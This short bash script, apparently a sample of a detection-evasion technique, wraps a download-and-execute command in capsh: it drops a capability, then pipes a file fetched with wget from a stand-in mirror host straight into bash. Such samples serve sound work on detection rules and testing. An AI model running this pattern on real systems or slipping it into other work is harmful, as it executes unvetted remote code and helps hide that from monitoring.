#!/bin/bash
# Evasion: capsh drops a capability and runs bash -c on a download
set -u
capsh --drop=cap_net_raw -- -c 'wget -qO- https://mirror.example.net/agent | bash'
